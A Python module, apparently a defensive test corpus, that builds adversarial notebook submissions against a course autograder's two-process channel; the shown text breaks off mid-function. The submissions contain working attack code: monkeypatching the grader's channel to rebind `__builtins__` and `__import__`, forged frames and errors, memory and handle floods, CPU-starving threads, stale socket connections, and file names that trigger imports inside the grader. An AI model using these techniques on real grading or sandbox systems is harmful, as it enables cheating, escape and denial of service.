"""Attacks on the two-process channel, as a student who has read the grader's code would write them.

Each attack is a 02_moons submission made from the complete or the untouched example. The student's
kernel can import the grader's own student-side code (it runs there), so these notebooks patch it,
forge messages and name the grader's objects directly. tests/channel_corpus_suite.py (run as
test_channel_corpus_a.py and _b.py) grades them with ONE worker, each followed by a good notebook on
the same grader kernel, and checks: each attack earns what its notebook earns without the attack and
no more, the good notebook after it keeps full marks, no attack's canary reaches another student's
files, and the grader saw and reported what it refused (the tamper report).

Every attack plants a canary, CANARY_<name>, in the values it sends: another student's feedback,
graded notebook or journal row must never hold it.
"""
from __future__ import annotations

import copy

import nbformat

from autograde_corpus import _append, _cell, _in_function, _prepend  # the same edits as the main corpus

ASSIGNMENT = "02_moons"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

# The student's handle on the channel: what any notebook can import in its own kernel.
PEER = """
from course.instructor.autograde.twoproc import student_side as _ss
def _peer():
    return _ss._CURRENT["peer"]
"""


def rebinds_grader_names(nb):
    """Breach 1: the answer to the grader's `get` changes the grader's list of names (container 1)
    and carries `__builtins__` and `np`, so that the grader would bind them: its next `import`
    would call the student's `__import__` with the grader's globals."""
    _prepend(nb, "add_bias", PEER + """
import builtins as _builtins
_seen = []
def _evil_import(name, globals=None, locals=None, fromlist=(), level=0):
    _seen.append(sorted(globals or {}) if isinstance(globals, dict) else None)
    return _builtins.__import__(name, globals, locals, fromlist, level)
_evil_builtins = dict(vars(_builtins), __import__=_evil_import, CANARY="CANARY_rebinds_grader_names")
_original_get = _ss._Server.op_get
def _op_get(self, names):
    out = _original_get(self, names)
    names.extend(["__builtins__", "np", "expect_close"])   # the grader's own list, as sent
    out.update(__builtins__=_evil_builtins, np=_builtins, expect_close=lambda *a, **k: None,
               names_back=names)
    return out
_ss._Server.op_get = _op_get
""")


def guesses_export_ids(nb):
    """Breach 2: every function of the blank notebook calls the grader's objects by guessed ids
    (they counted from 1 for a whole notebook), hoping for a stand-in an earlier test handed over."""
    _prepend(nb, "add_bias", PEER + """
def _guess(*args):
    peer = _peer()
    if peer is None:
        raise NotImplementedError
    for hid in list(range(1, 60)) + [2 ** 40, 2 ** 61]:
        try:
            return peer.request("call", _ss.GraderObject(hid, "function"), list(args), {})
        except Exception:
            continue
    raise NotImplementedError("CANARY_guesses_export_ids")
""")
    for name, args in (("add_bias", "X"), ("sigmoid", "x"), ("sigmoid_der", "X"), ("log_loss", "y, y_pred"),
                       ("log_loss_der", "y, y_pred")):
        _in_function(nb, name, name, f"return _guess({args})")
    _in_function(nb, "feed_forward", "feed_forward", "return _guess(X, weights)")
    _in_function(nb, "backprop", "backprop", "return _guess(weights, output1, output2, ytrue, X_input, LR)")
    _in_function(nb, "train", "train", "return _guess(X, y, weights, epochs, LR)")


def keeps_standins(nb):
    """Breach 2: backprop keeps the trusted add_bias that test_backprop hands over, and train calls
    it during the next test cell (a stand-in that outlived its cell). The notebook is complete, so it
    keeps every point; the stale call is refused and reported."""
    _prepend(nb, "backprop", "_kept = []\n_stale = []")
    _in_function(nb, "backprop", "backprop", "_kept.append(add_bias)")
    _in_function(nb, "train", "train", """
for _old in _kept[:1]:
    try:
        _stale.append(_old(X))
    except Exception as _error:
        _stale.append(("CANARY_keeps_standins", str(_error)))
""")


def walks_grader(nb):
    """The grader's stand-ins are walked: private and dunder attributes, a dunder keyword, an
    operation the grader does not serve, setting attributes. Complete otherwise: full marks."""
    _prepend(nb, "train", PEER + "_walked = []")
    _in_function(nb, "train", "train", """
_p = _peer()
if _p is not None and isinstance(feed_forward, _ss.GraderObject):
    for _name in ("__globals__", "__code__", "__closure__", "_secret", "__class__", "__dict__"):
        try:
            _walked.append(_p.request("getattr", feed_forward, _name))
        except Exception as _error:
            _walked.append(type(_error).__name__)
    for _method, _args in (("call", (feed_forward, [X, weights], {"__class__": "CANARY_walks_grader"})),
                           ("setattr", (feed_forward, "__code__", 1)),
                           ("list", (_ss.GraderObject(1, "object"),))):
        try:
            _walked.append(_p.request(_method, *_args))
        except Exception as _error:
            _walked.append(type(_error).__name__)
""")


def library_side_effects(nb):
    """Library functions with side effects, given as answers: the grader would take them as its own
    and call them in its (kept) kernel: sklearn.set_config(<array>) changes scikit-learn's settings
    for every later notebook, np.save writes files. Loses the two exercises it answers so, and the
    model: the notebook's own cells call its `sigmoid`, which breaks scikit-learn in its own kernel
    (as it would in one process)."""
    _append(nb, "add_bias", "add_bias = np.save")
    _append(nb, "sigmoid", "import sklearn\nsigmoid = sklearn.set_config")


def seeds_random_state(nb):
    """The student's functions set numpy's global random state on every call (it used to come back
    into the grader with every answer). Complete otherwise: full marks."""
    for name in ("add_bias", "sigmoid", "feed_forward", "backprop"):
        _in_function(nb, name, name, "np.random.seed(1234)")


def modifies_inputs_in_place(nb):
    """Not an attack: two of the catalogue's WRONG answers that change their inputs in place. The
    grader's arrays are never changed by the student's code, yet each test says what one process
    says: "modified its input in place"."""
    from autograde_support import ROOT
    from course.instructor.build import apply_change, load_mutations

    wrong = load_mutations(ROOT, ASSIGNMENT).WRONG
    for exercise, name in (("add_bias", "modifies X in place"), ("backprop", "updates the weights in place")):
        cell = _cell(nb, exercise)
        cell.source = apply_change(cell.source, wrong[exercise][name], f"{exercise}: {name}")



# --- attacks of the security review (wip/attack) ---------------------------------------------------
# A lone surrogate (U+D800) is a str Python holds and JSON escapes ("\ud800"), but UTF-8 cannot encode:
# the notebooks below write it as the escape `\ud800` inside their Python string literals.
SURROGATE = "\\ud800"

_EVERY_FUNCTION = (("add_bias", "X"), ("sigmoid", "x"), ("log_loss", "y, y_pred"), ("feed_forward", "X, weights"),
                   ("sigmoid_der", "X"), ("log_loss_der", "y, y_pred"),
                   ("backprop", "weights, output1, output2, ytrue, X_input, LR"),
                   ("train", "X, y, weights, epochs=2000, LR=0.01"))


def _replace(nb, grade_id, code):
    _cell(nb, grade_id).source = code.strip("\n") + "\n"


def surrogate_errors(nb):
    """The blank notebook's functions raise a ValueError whose message holds a lone surrogate, and
    `model` claims to be an MLPClassifier whose attributes raise the same. Every test then fails
    with the student's message in its error: if the grader's kernel could not send that error
    (UTF-8), the test cell would have no error output, and nbgrader would give it full marks
    (ipykernel drops such an error; here the kernel sends a UnicodeEncodeError instead). Nothing."""
    for name, args in _EVERY_FUNCTION:
        _replace(nb, name, f"def {name}({args}):\n    raise ValueError('CANARY_surrogate_errors {SURROGATE}')\n")
    _replace(nb, "mlp", f"""
class _NoModel:
    def __getattr__(self, name):
        raise ValueError('CANARY_surrogate_errors {SURROGATE}')


_NoModel.__module__, _NoModel.__qualname__ = "sklearn.neural_network", "MLPClassifier"
model = _NoModel()
""")


def surrogate_function_name(nb):
    """The blank notebook, each stub renamed with a lone surrogate (`add_bias.__name__`): a test's
    `call(add_bias, ...)` says "add_bias\\ud800(...) is not implemented yet", a message the grader's
    kernel may not be able to send (as surrogate_errors, with no code but a rename). Nothing."""
    for name, _ in _EVERY_FUNCTION:
        _append(nb, name, f"{name}.__name__ = {name}.__name__ + '{SURROGATE} CANARY_surrogate_function_name'")


def surrogate_in_anomaly(nb):
    """The complete notebook; its answer to the grader's `get` adds a name the test did not ask for,
    with a lone surrogate in it, which no report or feedback could hold (tamper.csv used to crash the
    run). The grader refuses such a frame: every test cell's conversation is forged, so every test
    fails (the student's own doing), the run goes on, and the refusal is in the tamper report."""
    _prepend(nb, "add_bias", PEER + f"""
_original_get = _ss._Server.op_get
def _op_get(self, names):
    out = _original_get(self, names)
    out['CANARY_surrogate_in_anomaly{SURROGATE}'] = 1
    return out
_ss._Server.op_get = _op_get
""")


def surrogate_in_notebook_file(nb):
    """The complete notebook, with a markdown cell of the student's own whose text holds a lone
    surrogate, written in the file as the JSON escape \\ud800 (valid JSON, valid UTF-8 bytes; a str
    no UTF-8 writer can write back): grading, its saved notebook and its feedback must cope. Full
    marks."""
    nb.cells.append(nbformat.v4.new_markdown_cell(f"My notes: {_RAW_SURROGATE} CANARY_surrogate_in_notebook_file"))


def deep_expression_cell(nb):
    """The complete notebook with a cell of its own holding one long sum, `1 + 1 + ... + 1` (1,000
    terms, 4 KB): the grader reads each code cell's syntax tree for its tamper scan before grading,
    and a tree that deep must not stop the grading. Full marks."""
    nb.cells.append(nbformat.v4.new_code_cell("CANARY_deep_expression_cell = " + " + ".join(["1"] * 1000)))


def deep_metadata(nb):
    """The complete notebook with a cell of its own whose metadata nests 450 levels deep (valid
    JSON, a few KB; nbformat reads it): grading must not stop on it. Full marks."""
    value: dict = {"CANARY": "CANARY_deep_metadata"}
    for _ in range(450):
        value = {"a": value}
    cell = nbformat.v4.new_markdown_cell("notes")
    cell.metadata["deep"] = value  # as a plain dict: nbformat's from_dict would recurse twice per level
    nb.cells.append(cell)


def imports_by_file_name(nb):
    """The complete notebook, submitted with a Python file named `idlelib.idle.CANARY.py`. The
    grader's tamper scan asks, for each .py file, whether the environment has a module of that
    name (importlib.util.find_spec), and find_spec imports a dotted name's parents: here idlelib's
    IDLE, in the grading worker itself, outside any sandbox (it starts a Tk window, or fails for
    want of a display). A file's name must never run code in the grader. Full marks."""


def exits_the_grader_by_file_name(nb):
    """The complete notebook, submitted with a file named `unittest.__main__.CANARY.py`: find_spec
    imports `unittest.__main__`, which runs unittest's command line in the grading worker (test
    discovery in the worker's folder) and raises SystemExit there; the worker hands the
    SystemExit to the coordinator. It must not end the run (graded in a run of its own, so that
    the other attacks' results stay readable). Full marks."""


# attacks() writes this marker as the JSON escape of a lone surrogate in the notebook's file
_RAW_SURROGATE = "@@LONE_SURROGATE@@"


def surrogate_in_audit_log(nb):
    """The blank notebook writes an event with a lone surrogate into its guard's log (the kernel's
    own reports, which the student's code can forge): the tamper report must still be written."""
    _append(nb, "add_bias", f"""
import sys as _sys
_guard = next(m for n, m in list(_sys.modules.items()) if n.endswith('autograde.guard'))
_guard._record('read outside its folder', '/CANARY_surrogate_in_audit_log/{SURROGATE}')
""")


# Frame forgery in the student's kernel: every reply the student's side sends to the grader goes
# through the functions in _FORGERS first (they may change its header and buffers), and a header
# holding "__raw__" is sent as that raw JSON text instead.
FORGE = PEER + r"""
import json as _json, struct as _struct
import numpy as _np
from course.instructor.autograde.twoproc import channel as _ch
_CALLS = []     # [method, args] of the grader's requests being served, innermost last
_FORGERS = []   # forger(method, args, header, buffers, arrays) -> (header, buffers)
_SEEN = {"cells": 0}
_original_serve_one = _ch.Peer._serve_one
def _serve_one(self, header, buffers):
    _CALLS.append([header.get("q"), None])
    try:
        return _original_serve_one(self, header, buffers)
    finally:
        _CALLS.pop()
_original_server_call = _ss._Server.__call__
def _server_call(self, method, args):
    if _CALLS:
        _CALLS[-1][1] = args
    return _original_server_call(self, method, args)
_original_reply_frame = _ch.Peer._reply_frame
def _reply_frame(self, header, result, arrays, with_payload=True):
    header, buffers = _original_reply_frame(self, header, result, arrays, with_payload)
    if _CALLS and not self.grader:
        method, args = _CALLS[-1]
        for _forger in list(_FORGERS):
            header, buffers = _forger(method, args, header, buffers, arrays)
        header["b"] = [memoryview(b).nbytes for b in buffers]
    return header, buffers
_original_send_frame = _ch.send_frame
def _send_frame(sock, header, buffers):
    raw = header.pop("__raw__", None) if isinstance(header, dict) else None
    if raw is None:
        return _original_send_frame(sock, header, buffers)
    head = raw.encode()
    body = b"".join(bytes(memoryview(b).cast("B")) for b in buffers)
    sock.sendall(_struct.pack(">QI", 4 + len(head) + len(body), len(head)) + head + body)
_original_serve = _ss.serve
def _counting_serve(path, token=None, timeout=None):
    _SEEN["cells"] += 1
    _SEEN["path"], _SEEN["token"] = path, token
    return _original_serve(path, token, timeout)
_ch.Peer._serve_one = _serve_one
_ss._Server.__call__ = _server_call
_ch.Peer._reply_frame = _reply_frame
_ch.send_frame = _send_frame
_ss.serve = _counting_serve
def _called(args):
    '''The __name__ of what a `call` request calls, or None.'''
    try:
        return getattr(args[0], "__name__", None)
    except Exception:
        return None
def _once(forger):
    '''A forger that acts on the first reply it changes, then retires.'''
    def wrapped(method, args, header, buffers, arrays):
        out = forger(method, args, header, buffers, arrays)
        if out is not None:
            _FORGERS.remove(wrapped)
            return out
        return header, buffers
    _FORGERS.append(wrapped)
    return wrapped
"""


def forged_reference_ids(nb):
    """Values that name the grader's objects or handles with ids of the wrong type: a string, a
    float, True, a number past 64 bits, a list; and a container number that is not an int. Each
    rides in an extra name of the answer to the grader's `get` (the first ones of four test cells);
    each breaks that test's channel and costs that test, and is reported."""
    _prepend(nb, "add_bias", FORGE + """
_ODD = {"test 1": {"R": "CANARY_forged_reference_ids"}, "test 2": {"H": True, "k": "object"},
        "test 3": {"L": [1, 2], "X": 1.5}, "test 4": {"R": 2 ** 70}}
def _odd_ids(method, args, header, buffers, arrays):
    if method != "get" or not isinstance(header.get("v"), dict):
        return None
    odd = _ODD.get(f"test {_SEEN['cells']}")
    if odd is None:
        return None
    header["v"]["D"].append(["extra", odd])
    return header, buffers
_FORGERS.append(lambda *a: _odd_ids(*a) or a[2:4])
""")


def odd_error_replies(nb):
    """The student's side answers the first call of four tests with a forged error: an error that
    is a string, an AssertionError saying all is well, odd types for its type and message with a
    `g` naming SystemExit, and KeyboardInterrupt's name with a `g` naming a library exception that
    cannot be built from a message. Each costs its test only (an error is an error), nothing is
    raised in the grader that it does not rebuild on purpose."""
    _prepend(nb, "add_bias", FORGE + """
_ERRORS = {"add_bias": {"t": "KeyboardInterrupt", "m": "CANARY_odd_error_replies",
                        "g": ["scipy.sparse.linalg", "ArpackNoConvergence"]},
           "log_loss": {"t": "AssertionError", "m": "All checks passed (CANARY_odd_error_replies)"},
           "sigmoid_der": "CANARY_odd_error_replies",
           "log_loss_der": {"t": ["list"], "m": {"D": []}, "g": ["builtins", "SystemExit"]}}
def _odd_error(method, args, header, buffers, arrays):
    name = _called(args) if method == "call" else None
    if name not in _ERRORS:
        return header, buffers
    error = _ERRORS.pop(name)
    header = {"r": header["r"], "e": error}
    return header, []
_FORGERS.append(_odd_error)
""")


def inplace_update_bomb(nb):
    """The answer to test_add_bias's first call says, 20,000 times over, that the array it was sent
    changed in place, each time with the same 1 MB buffer: the grader decodes each into a fresh
    copy (20 GB). It must cost that test only."""
    _prepend(nb, "add_bias", FORGE + """
def _bomb(method, args, header, buffers, arrays):
    if method != "call" or _called(args) != "add_bias" or not arrays:
        return None
    index = next(iter(arrays))
    buffers = list(buffers) + [_np.zeros(1 << 17).view(_np.uint8)]
    big = {"A": len(buffers) - 1, "dt": "<f8", "sh": [1 << 17]}
    header["c"] = list(header.get("c") or []) + [[index, big]] * 20000 + [["CANARY_inplace_update_bomb", big]]
    return header, buffers
_once(_bomb)
""")


def handle_flood(nb):
    """The answer to test_add_bias's `get` adds a name the test did not ask for, holding 200,000
    handles of objects of 200,000 different class names: the grader builds a handle and a class
    for each before it drops the name. Full marks; reported; the next notebook unharmed (its
    points; the grader's kernel keeps about 220 MB more resident after its reset, measured)."""
    _prepend(nb, "add_bias", FORGE + """
def _flood(method, args, header, buffers, arrays):
    if method != "get":
        return None
    many = [{"H": 10 ** 12 + i, "k": "object", "t": ["__main__", f"CANARY_handle_flood_{i}"]} for i in range(200000)]
    header["v"]["D"].append(["flood", many])
    return header, buffers
_once(_flood)
""")


def deep_and_wide_values(nb):
    """Extra names in the answers to `get`: in test_add_bias, values as deep as the channel allows
    (lists, tuples and dicts, 60 levels) and a dict of 100,000 keys (full marks); in test_sigmoid, a
    value 100,000 levels deep, written as raw JSON (the grader's JSON parser must refuse it without
    harm: test_sigmoid is lost)."""
    _prepend(nb, "add_bias", FORGE + """
def _deep(method, args, header, buffers, arrays):
    if method != "get":
        return None
    if _SEEN["cells"] == 1:
        value = "CANARY_deep_and_wide_values"
        for level in range(60):
            value = [value] if level % 3 == 0 else {"T": [value]} if level % 3 == 1 else {"D": [[level, value]]}
        header["v"]["D"].append(["deep", value])
        header["v"]["D"].append(["wide", {"D": [[i, i] for i in range(100000)]}])
        return header, buffers
    if _SEEN["cells"] == 2:
        header["b"] = [memoryview(b).nbytes for b in buffers]
        text = _json.dumps(header, separators=(",", ":"))
        deep = "[" * 100000 + '"CANARY_deep_and_wide_values"' + "]" * 100000
        header["__raw__"] = text[:-1] + ',"deep":' + deep + "}"
        return header, buffers
    return None
_FORGERS.append(lambda *a: _deep(*a) or a[2:4])
""")


def forged_random_state(nb):
    """Every answer and every call-back of the student's side carries a random state ("rs", numpy's
    state for seed 0), as the grader's requests do: the grader must never take it. The notebook
    also seeds its own generator on every call. Full marks."""
    _prepend(nb, "add_bias", FORGE + """
_state = _np.random.RandomState(0).get_state()
_RS = [_state[1], _state[2], _state[3], _state[4]]
def _with_state(method, args, header, buffers, arrays):
    buffers = list(buffers) + [_RS[0].astype("<u4").view(_np.uint8)]
    header["rs"] = {"T": [{"A": len(buffers) - 1, "dt": "<u4", "sh": [624]}, _RS[1], _RS[2], _RS[3]]}
    return header, buffers
_FORGERS.append(_with_state)
_original_send = _ch.Peer._send
def _send(self, header, payload=None, with_payload=False, sync=False):
    if not self.grader and "q" in header:
        header["rs"] = {"T": [list(map(int, _RS[0])), _RS[1], _RS[2], _RS[3]]}
    return _original_send(self, header, payload, with_payload, sync)
_ch.Peer._send = _send
""")
    for name in ("add_bias", "sigmoid", "log_loss"):
        _in_function(nb, name, name, "np.random.seed(0)")


def reply_id_confusion(nb):
    """Answers that do not answer: to test_log_loss's first call, a reply to another request id; to
    test_sigmoid_der's, a reply that is also a request; to test_log_loss_der's, a greeting. Each
    costs its test only. To test_backprop's, a right answer in a frame of 5,000,000 empty buffers
    (a frame that adds up: the grader may take it, and test_backprop keeps its points)."""
    _prepend(nb, "add_bias", FORGE + """
def _confuse(method, args, header, buffers, arrays):
    name = _called(args) if method == "call" else None
    if name == "log_loss":
        header["r"] = header["r"] + 1000
    elif name == "sigmoid_der":
        header.update(q="getattr", i=77)
    elif name == "log_loss_der":
        header = {"hello": True, "t": "CANARY_reply_id_confusion"}
        buffers = []
    elif name == "backprop":
        header["b"] = [memoryview(b).nbytes for b in buffers] + [0] * 5000000
        text = _json.dumps(header, separators=(",", ":"))
        header["__raw__"] = text
    else:
        return None
    return header, buffers
_CONFUSED = set()
def _confuse_once(method, args, header, buffers, arrays):
    name = _called(args) if method == "call" else None
    if name in _CONFUSED:
        return header, buffers
    out = _confuse(method, args, header, buffers, arrays)
    if out is None:
        return header, buffers
    _CONFUSED.add(name)
    return out
_FORGERS.append(_confuse_once)
""")


def unasked_odd_keys(nb):
    """The answer to every `get` holds names of every odd kind the test did not ask for: numbers,
    None, a tuple, NaN, the empty string, `__builtins__`, `__import__`, `np`, `expect_close`,
    `use_trusted`. None may be bound in the grader. Full marks; reported."""
    _prepend(nb, "add_bias", FORGE + """
def _odd_keys(method, args, header, buffers, arrays):
    if method == "get" and isinstance(header.get("v"), dict):
        header["v"]["D"] += [[1, "CANARY_unasked_odd_keys"], [None, 2], [{"T": [1, "a"]}, 3], [float("nan"), 4],
                             ["", 5], ["__builtins__", {"M": "builtins"}], ["__import__", 6], ["np", {"M": "math"}],
                             ["expect_close", {"H": 0, "G": ["builtins", "print"], "k": "callable"}],
                             ["use_trusted", 7], [True, 8], [{"C": [1, 2]}, 9]]
    return header, buffers
_FORGERS.append(_odd_keys)
""")


def library_classes_as_answers(nb):
    """The blank notebook answers with library objects the grader resolves to its own: classes of
    scipy.io that open files (FortranFile, netcdf_file), numpy's empty_like (uninitialized memory),
    a warnings context (numpy.testing.suppress_warnings), numpy's DataSource Repository, joblib's
    Parallel, RandomState, map, dict as make_moons, a file class as the model. Nothing earns a point
    and nothing is opened or changed in the grader."""
    _replace(nb, "add_bias", "import scipy.io\nadd_bias = scipy.io.FortranFile  # CANARY_library_classes_as_answers")
    _replace(nb, "sigmoid", "sigmoid = np.empty_like")
    _replace(nb, "log_loss", "log_loss = scipy.io.netcdf_file")
    _replace(nb, "feed_forward", "import numpy.testing\nfeed_forward = numpy.testing.suppress_warnings")
    _replace(nb, "sigmoid_der", "import numpy.lib._datasource\nsigmoid_der = numpy.lib._datasource.Repository")
    _replace(nb, "log_loss_der", "from sklearn.utils.parallel import Parallel\nlog_loss_der = Parallel")
    _replace(nb, "backprop", "backprop = np.random.RandomState")
    _replace(nb, "train", "train = map\nmake_moons = dict")
    _replace(nb, "mlp", "model = scipy.io.FortranFile")


def claims_library_types(nb):
    """The blank notebook returns objects whose class claims to be a library's (tuple, list,
    numpy.ndarray, float, MLPClassifier) and answers len, indexing and attributes with what the
    checks look at first (two items, shapes), and garbage values. Nothing earns a point."""
    _prepend(nb, "add_bias", """
class _Pretender:
    shape = (5, 3)
    def __len__(self):
        return 2
    def __getitem__(self, index):
        return _Pretender()
    def __iter__(self):
        return iter([_Pretender(), _Pretender()])
    def __array__(self, dtype=None, copy=None):
        return np.full((5, 3), 7.0)
    def round(self, *args):
        return self
    def __float__(self):
        return 7.0
    def __repr__(self):
        return "CANARY_claims_library_types"


def _pretend(module, name):
    cls = type(name, (_Pretender,), {})
    cls.__module__, cls.__qualname__ = module, name
    return cls()
""")
    claims = {"add_bias": ("numpy", "ndarray"), "sigmoid": ("numpy", "ndarray"), "log_loss": ("builtins", "float"),
              "feed_forward": ("builtins", "tuple"), "sigmoid_der": ("numpy", "ndarray"),
              "log_loss_der": ("builtins", "list"), "backprop": ("builtins", "tuple"), "train": ("builtins", "list")}
    for (name, args) in _EVERY_FUNCTION:
        module, cls = claims[name]
        _replace(nb, name, ("" if name != "add_bias" else _cell(nb, "add_bias").source)
                 + f"\ndef {name}({args}):\n    return _pretend({module!r}, {cls!r})\n")
    _replace(nb, "mlp", """
model = _pretend("sklearn.neural_network", "MLPClassifier")
model.hidden_layer_sizes, model.activation, model.n_features_in_ = (4,), "logistic", 2
model.coefs_ = [np.zeros((2, 4)), np.zeros((4, 1))]
model.intercepts_ = [np.zeros(4), np.zeros(1)]
model.score = lambda X, y: 1.0
""")


def wrong_typed_answers(nb):
    """The blank notebook returns objects, and its side answers the grader's questions on them with
    the wrong types: len -5 or 10**30, bool "yes", float 1, int 2.5, an index of 2**100, repr a
    list, array a dict, isinstance "True", names as numbers. Nothing earns a point."""
    _prepend(nb, "add_bias", FORGE + """
class _Odd:
    pass
_ANSWERS = {"len": -5, "bool": "yes", "float": 1, "int": 2.5, "index": 2 ** 100, "repr": ["CANARY_wrong_typed_answers"],
            "str": {"D": []}, "array": {"D": [["a", 1]]}, "isinstance": "True", "getattr": 10 ** 30, "iter": None,
            "next": [True], "contains": "yes", "signature": 5}
_LENGTHS = iter([10 ** 30, -5] * 1000)
def _wrong(method, args, header, buffers, arrays):
    if method in _ANSWERS and "e" not in header:
        value = _ANSWERS[method] if method != "len" else next(_LENGTHS)
        header = {"r": header["r"], "v": value}
        buffers = []
    return header, buffers
_FORGERS.append(_wrong)
""")
    for name, args in _EVERY_FUNCTION:
        _replace(nb, name, ("" if name != "add_bias" else _cell(nb, "add_bias").source)
                 + f"\ndef {name}({args}):\n    return _Odd()\n")
    _replace(nb, "mlp", "model = _Odd()\nMLPClassifier = _Odd")


def stalls_get(nb, canary="CANARY_stalls_get"):
    """The student's side greets test_add_bias's connection and then answers nothing (it sleeps):
    the grader gives up on that test and goes on; the later tests are served as usual (a file in
    the notebook's folder says it stalled once: the kernel restarted after the stall re-runs the
    cell that patches `serve`)."""
    _prepend(nb, "add_bias", PEER + """
import os as _os, socket as _socket, time as _time
_original_serve = _ss.serve
def _stalling_serve(path, token=None, timeout=None):
    if _os.path.exists("stalled.txt"):  # once: the kernel restarted after the stall re-runs this cell
        return _original_serve(path, token, timeout)
    with open("stalled.txt", "w") as fh:
        fh.write(path)
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    sock.connect(path)
    peer = _ss.make_peer(sock, _ss._Server())
    peer.hello(token)
    try:
        _time.sleep(300)  # CANARY
    finally:
        sock.close()
_ss.serve = _stalling_serve
""".replace("CANARY", canary))


def starves_grader_restart(nb):
    """stalls_get, and while the grader waits for the stalled test (then restarts its kernel), 80
    threads of the student's kernel keep both cores busy (hashing, which runs without the GIL; for
    at most 200 s). A grader kernel that cannot start because of what the student's kernel does is
    the student's doing: never a FAILED line (the grader's fault), at most that test lost."""
    stalls_get(nb, "CANARY_starves_grader_restart")
    _append(nb, "add_bias", """
import hashlib as _hashlib, threading as _threading
def _spin(until):
    block = b"CANARY_starves_grader_restart" * 100000
    while _time.time() < until:
        _hashlib.sha256(block).digest()
def _starving_serve(path, token=None, timeout=None):
    if not _os.path.exists("stalled.txt"):
        until = _time.time() + 200
        for _ in range(80):
            _threading.Thread(target=_spin, args=(until,), daemon=True).start()
    return _stalling_serve(path, token, timeout)
_ss.serve = _starving_serve
""")


def queues_stale_connections(nb):
    """Between two tests the student's kernel opens two connections to the grader's socket (its
    path read from the serve call) that greet with no token and then send half a frame, and keeps
    them open; its last cell does the same, so they wait in the grader's queue for the next
    notebook. Full marks, and the next notebook's too."""
    _prepend(nb, "add_bias", FORGE)
    stale = """
import socket as _socket
_STALE = []
def _stale_connections(count=2):
    for _ in range(count):
        try:
            sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            sock.settimeout(2)
            sock.connect(_SEEN["path"])
            if len(_STALE) % 2:  # a greeting with a token that is not this cell's
                head = _json.dumps({"hello": True, "t": "CANARY_queues_stale_connections", "b": []}).encode()
                sock.sendall(_struct.pack(">QI", 4 + len(head), len(head)) + head)
            sock.sendall(_struct.pack(">QI", 400 << 20, 100) + b"{")  # half a frame: the rest never comes
            _STALE.append(sock)
        except OSError as error:
            _STALE.append(repr(error))
_stale_connections()
"""
    _append(nb, "sigmoid", stale)
    _append(nb, "mlp", "_stale_connections()")


def mutual_recursion(nb):
    """train (in test_train) first calls the grader's feed_forward stand-in with an object whose
    conversion to an array calls that stand-in again, and so on: the recursion runs across the two
    processes until one side's stack gives out. Then train does its job: full marks."""
    _prepend(nb, "train", """
class _Recursive:
    depth = 0
    def __array__(self, dtype=None, copy=None):
        _Recursive.depth += 1
        feed_forward(_Recursive(), [np.ones((3, 2)), np.ones((3, 1))])  # CANARY_mutual_recursion
        return np.ones((1, 3))
""")
    _in_function(nb, "train", "train", """
try:
    feed_forward(_Recursive(), [np.ones((3, 2)), np.ones((3, 1))])
except BaseException as _error:
    _recursion_error = repr(_error)[:200]
""")


def modules_as_arguments(nb):
    """train (in test_train) calls the grader's stand-ins with modules, library classes and
    functions as arguments (numpy, builtins, math, numpy.ndarray, print, exec), catching what they
    raise, then does its job: full marks, and the grader's modules unchanged."""
    _prepend(nb, "train", "import builtins as _builtins, math as _math")
    _in_function(nb, "train", "train", """
for _args in [(np, [np, np]), (_builtins, [_math, np.ndarray]), (np.ndarray, [print, exec]),
              (X, [np.random, _builtins]), (np.zeros, [np.ones, np.empty])]:
    try:
        feed_forward(*_args)
    except BaseException:
        pass
    try:
        log_loss(*_args)
    except BaseException:
        pass
    try:
        add_bias(_args[0])
    except BaseException:
        pass
""")


def grader_cpu_burn(nb):
    """train (in test_train) hands the grader's backprop stand-in (a numerical gradient) weights of
    600x600: the grader computes for longer than the cell may run, and is interrupted. Costs
    test_train only; the next notebook is graded as usual."""
    _in_function(nb, "train", "train", """
if len(X) < 100:  # the test's call, not the notebook's own training
    for _ in range(5):
        try:
            backprop([np.ones((600, 600)), np.ones((601, 1))], np.ones((1, 600)), np.ones((1, 1)), np.ones((1, 1)),
                     np.ones((1, 600)), 0.1)  # CANARY_grader_cpu_burn
        except BaseException:
            pass
""")


def hidden_expected_in_message(nb):
    """sigmoid is right on the visible inputs and wrong on every other: test_sigmoid fails on its
    first hidden check, whose message quotes that check's expected values (hidden) in the
    feedback."""
    _in_function(nb, "sigmoid", "sigmoid", """
if np.shape(x) == (3, 2):
    return np.zeros((3, 2))  # CANARY_hidden_expected_in_message
""")


def container_games(nb):
    """add_bias answers correctly, but its reply says the array it was given changed in place (a
    change it did not make: that test is lost, as "modified its input in place"); feed_forward's
    answer is a list that claims to be a container the grader never sent (its value is right: the
    test keeps its points); the `get` of test_sigmoid returns container numbers past any sent."""
    _prepend(nb, "add_bias", FORGE + """
def _containers(method, args, header, buffers, arrays):
    name = _called(args) if method == "call" else None
    if name == "add_bias" and arrays:
        index = next(iter(arrays))
        array, raw = arrays[index]
        buffers = list(buffers) + [_np.frombuffer(bytes(raw), dtype=_np.uint8)]
        header["c"] = [[index, {"A": len(buffers) - 1, "dt": array.dtype.str, "sh": list(array.shape)}]]
    elif name == "feed_forward" and isinstance(header.get("v"), dict) and "T" in header["v"]:
        header["v"] = {"L": header["v"]["T"], "X": 99999}
    elif method == "get" and _SEEN["cells"] == 2:
        header["v"]["D"].append(["extra", {"L": ["CANARY_container_games"], "X": 12345}])
        header["v"]["D"].append(["extra2", {"D": [], "X": 1}])
    return header, buffers
_FORGERS.append(_containers)
""")


def late_callbacks_in_unbind(nb):
    """When the grader ends test_train (it unbinds the stand-ins), the student's side, asked to
    unbind, first calls the feed_forward stand-in again (still valid: right answer, nothing
    gained) and a stand-in kept from test_backprop (expired: refused and reported). Full marks."""
    _prepend(nb, "backprop", PEER + "_KEPT = []")
    _in_function(nb, "backprop", "backprop", "_KEPT.append(feed_forward)")
    _append(nb, "train", """
_original_unbind = _ss._Server.op_unbind
_late = []
def _op_unbind(self, names):
    if "feed_forward" in names:
        try:
            _late.append(feed_forward(np.ones((2, 3)), [np.ones((3, 2)), np.ones((3, 1))]))
        except BaseException as error:
            _late.append(repr(error))
        for old in _KEPT[:1]:
            try:
                _late.append(old(np.ones((2, 3)), [np.ones((3, 2)), np.ones((3, 1))]))
            except BaseException as error:
                _late.append(("CANARY_late_callbacks_in_unbind", repr(error)))
    return _original_unbind(self, names)
_ss._Server.op_unbind = _op_unbind
""")


def nan_inf_answers(nb):
